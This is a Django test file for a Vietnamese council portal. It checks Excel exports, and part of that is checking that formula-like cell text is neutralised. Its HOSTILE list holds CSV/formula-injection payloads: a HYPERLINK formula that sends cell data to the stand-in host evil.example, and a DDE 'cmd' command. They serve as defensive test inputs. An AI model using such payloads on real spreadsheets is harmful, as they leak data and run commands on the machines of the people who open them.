"""Excel exports as a clerk opens them: names, dates, yes/no, widths, and no formula ever runs."""

import datetime as dt

import pytest
from django.urls import reverse

from hdnd_portal.core.export import export_filename, xlsx_response
from tests.factories import DelegateFactory, TermFactory
from tests.xlsx import read_export

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
]


def test_it_keeps_the_letters_of_a_vietnamese_file_name():
    assert export_filename("Đại biểu") == "dai-bieu"
    assert export_filename("Việc cần đôn đốc") == "viec-can-don-doc"
    assert export_filename("???") == "danh-sach"

    response = xlsx_response("Đại biểu", "Đại biểu", ["A"], [])
    assert 'filename="dai-bieu.xlsx"' in response["Content-Disposition"]
    assert response["Content-Disposition"].startswith("attachment")


@pytest.mark.parametrize("value", HOSTILE)
def test_it_writes_formula_like_text_as_plain_text(value):
    response = xlsx_response("x", "Danh sách", ["Nơi công tác"], [[value]])

    (cell,) = read_export(response).cells("Nơi công tác")
    assert cell.data_type == "s"
    assert cell.value == value
    assert cell.quotePrefix


def test_it_writes_real_dates_shown_day_month_year_and_yes_no_in_vietnamese():
    rows = [[dt.date(2026, 3, 15), True, False, 7, None]]
    export = read_export(xlsx_response("x", "T", ["Ngày", "Có?", "Không?", "Số", "Trống"], rows))

    (date_cell,) = export.cells("Ngày")
    assert date_cell.is_date and date_cell.number_format == "DD/MM/YYYY"
    assert export.rows[0][1:4] == ("Có", "Không", 7)


def test_it_heads_the_sheet_with_its_title_and_subtitle_and_sizes_columns():
    rows = [["Nguyễn Thị Minh Khai, Chủ tịch Ủy ban nhân dân xã"]]
    export = read_export(
        xlsx_response("x", "Đại biểu", ["Họ và tên"], rows, subtitle=["HĐND xã Phúc Lộc"])
    )

    assert export.title == "Đại biểu"
    assert export.subtitle == ["HĐND xã Phúc Lộc"]
    assert export.header == ("Họ và tên",)
    assert export.sheet.column_dimensions["A"].width >= len(rows[0][0])


def test_a_delegates_hostile_workplace_never_becomes_a_formula_in_the_list_export(
    client, council, make_persona
):
    DelegateFactory(term=TermFactory(council=council), workplace=HOSTILE[0])
    client.force_login(make_persona("staff"))

    export = read_export(client.get(reverse("councils-delegate-list"), {"format": "xlsx"}))

    cells = export.cells("Nơi công tác")
    assert [c.value for c in cells] == [HOSTILE[0]]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_the_list_export_says_whose_list_it_is_and_which_filters_made_it(
    client, council, make_persona
):
    term = TermFactory(council=council, name="2026-2031")
    DelegateFactory(term=term, full_name="Đinh Thị Hoa")
    client.force_login(make_persona("staff"))

    response = client.get(
        reverse("councils-delegate-list"), {"format": "xlsx", "term": term.pk, "q": "hoa"}
    )

    assert 'filename="dai-bieu.xlsx"' in response["Content-Disposition"]
    export = read_export(response)
    assert export.title == "Đại biểu"
    assert export.subtitle[0].startswith(council.name)
    assert "Tìm: “hoa”" in export.subtitle[1]
    assert "2026-2031" in export.subtitle[1]
    assert [row[0] for row in export.rows] == ["Đinh Thị Hoa"]


def test_the_export_names_a_filter_whose_choices_are_read_at_request_time(client, make_persona):
    # The inbox's kinds come from a registry (callable choices): they have no len().
    client.force_login(make_persona("staff"))

    response = client.get(reverse("followups-inbox"), {"format": "xlsx", "kind": "plan_task"})

    assert "Loại việc: Nhiệm vụ theo kế hoạch" in read_export(response).subtitle[1]
